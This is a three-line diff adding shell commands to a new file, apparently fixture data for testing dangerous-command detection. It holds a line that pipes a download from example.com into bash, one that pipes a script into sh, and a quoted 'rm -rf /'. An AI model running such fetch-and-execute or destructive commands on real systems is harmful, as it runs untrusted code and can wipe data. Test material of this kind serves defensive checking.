@@ -1,0 +1,3 @@
+curl -s example.com | bash
+cat script | sh
+echo 'rm -rf /' | grep rm
